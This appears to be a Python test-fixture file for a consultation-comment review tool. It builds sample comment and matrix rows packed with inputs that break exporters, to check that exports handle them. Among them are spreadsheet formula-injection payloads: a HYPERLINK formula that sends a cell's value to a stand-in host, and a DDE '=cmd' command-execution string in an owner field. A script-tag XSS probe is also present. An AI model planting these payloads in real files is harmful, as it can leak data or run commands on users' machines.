"""Rows to export: comments and points that hold what breaks exporters."""

from collections.abc import Iterable
from typing import Any

from ogp_review.domain.report import CommentRow, MatrixRow

FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"Click me")'
CONTROL = "bell \x07 and \x1b[31m escape\rcarriage \x00 zero"
BROKEN_UNICODE = "alone \ud800 and \udfff, not characters \ufffe \uffff"
LOOKS_ESCAPED = "the part _x0041_ is literal, and so is _x000d_"
MARKUP = "<script>alert('x')</script> & <b>bold</b> ]]> &amp;"
SCRIPTS = "公開政府合作夥伴關係需要更多公民參與。\nالشفافية والمساءلة والمشاركة\nการมีส่วนร่วม 🌍👩🏽‍💻 Ελλάδα"
LONG = "Participation must be funded 🌍, not only named. " * 820
HOSTILE = (
    FORMULA,
    CONTROL,
    BROKEN_UNICODE,
    LOOKS_ESCAPED,
    MARKUP,
    SCRIPTS,
    LONG,
    "@SUM(A1:A9)",
    "+1 for this\n\n  with an indent and a trailing space ",
    "-2+3",
    "\tafter a tab",
    " =1+1",
)

PROSE = (
    "The strategy speaks of young people as beneficiaries. We ask that it names them as partners: members of "
    "the national committees, with a vote, travel costs paid, and meetings outside school hours."
)
DRAFT = "OGP members will open their national committees to all who are affected."
ANSWER = (
    "We agree. Youth-led organisations had no seat in the committees that the paragraph describes. The text "
    "now asks each committee to hold at least two seats for them, and the Support Unit will publish how many "
    "are taken."
)


def comment(number: int, **values: Any) -> CommentRow:
    usual: dict[str, Any] = {
        "row_id": 2**62 + number,
        "version": f"v{number}",
        "ref": f"C{number:04}",
        "paragraph": "P12",
        "author": "Ana Pérez",
        "organisation": "Fundación Futuro",
        "channel": "discuto",
        "language": "es",
        "date": "2026-03-14",
        "text": PROSE,
        "translation": "",
        "votes_for": 3,
        "votes_against": 0,
        "reply_to": "",
        "themes": ("Participation/Youth",),
        "point": "R001",
        "disposition": "accepted",
        "state": "approved",
        "set_aside": "",
    }
    return CommentRow(**{**usual, **values})


def matrix_row(number: int, refs: Iterable[str], **values: Any) -> MatrixRow:
    refs = tuple(refs)
    usual: dict[str, Any] = {
        "row_id": 2**62 + 1000 + number,
        "point_id": number,
        "version": f"w{number}",
        "ref": f"R{number:03}",
        "section": "II. Who takes part",
        "paragraph": "P12",
        "point": "Give youth organisations seats.",
        "comments": len(refs),
        "verbatim": PROSE,
        "more": len(refs) - 1,
        "participants": ("Ana Pérez", "Lycée Pasteur"),
        "channels": ("discuto", "e-mail"),
        "languages": ("en", "es"),
        "votes_for": 14,
        "votes_against": 2,
        "themes": ("Participation/Youth",),
        "disposition": "accepted",
        "response": ANSWER,
        "proposed_change": "… with at least two seats for youth-led organisations.",
        "state": "approved",
        "owner": "Maria",
        "approved_by": "Joseph",
        "for_decision": False,
        "comment_refs": refs,
        "unit_refs": refs,
    }
    return MatrixRow(**{**usual, **values})


def small_comments() -> tuple[CommentRow, ...]:
    return (
        comment(1),
        comment(2, author=FORMULA, text=MARKUP, date="2026-03-14T09:30:00+02:00", language="en"),
        comment(
            3, text=CONTROL, organisation="@SUM(A1:A9)", date="March 2026", votes_for=None, votes_against=None
        ),
        comment(
            4,
            text=SCRIPTS,
            paragraph="P3",
            language="zh",
            date="2026-03",
            point="R003",
            state="drafted",
            disposition="not accepted",
            translation="Open government needs more participation.\nالشفافية",
        ),
        comment(
            5,
            text=LONG,
            paragraph="P3",
            date="2026-04-01 17:05",
            point="R004",
            state="in review",
            disposition="noted",
            votes_for=1204,
            language="en",
        ),
        comment(
            6,
            text=BROKEN_UNICODE + LOOKS_ESCAPED,
            paragraph="Whole draft",
            point="R005",
            state="new",
            disposition="",
            reply_to="C0005",
            language="en",
        ),
        comment(
            7,
            text="buy now",
            paragraph="Not assigned",
            point="",
            state="new",
            disposition="",
            set_aside="spam",
            language="en",
            themes=(),
        ),
        comment(
            8,
            text="+1 for this\n\n  with an indent and a trailing space ",
            point="R006",
            state="triaged",
            disposition="",
            language="fr",
            reply_to="C0001",
            date="",
        ),
    )


def small_matrix() -> tuple[MatrixRow, ...]:
    return (
        matrix_row(1, ("C0001", "C0002")),
        matrix_row(
            2, ("C0003",), verbatim=CONTROL, state="published", themes=(), disposition="accepted in part"
        ),
        matrix_row(
            3,
            ("C0004",),
            section="I. Why",
            paragraph="P3",
            verbatim=SCRIPTS,
            state="drafted",
            languages=("zh",),
            disposition="not accepted",
            for_decision=True,
            approved_by="",
        ),
        matrix_row(
            4,
            ("C0005",),
            section="I. Why",
            paragraph="P3",
            point=FORMULA,
            verbatim=LONG,
            state="in review",
            disposition="noted",
            response="-2+3",
            owner="=cmd|' /C calc'!A0",
            approved_by="",
        ),
        matrix_row(
            5,
            ("C0006",),
            section="",
            paragraph="Whole draft",
            point="",
            verbatim=LOOKS_ESCAPED,
            state="new",
            disposition="",
            response="",
            proposed_change="",
            owner="",
            approved_by="",
            point_id=None,
        ),
        matrix_row(
            6,
            ("C0008",),
            verbatim="+1 for this",
            state="triaged",
            disposition="",
            response="",
            votes_for=1_234_567,
            proposed_change="",
            approved_by="",
            for_decision=True,
        ),
    )
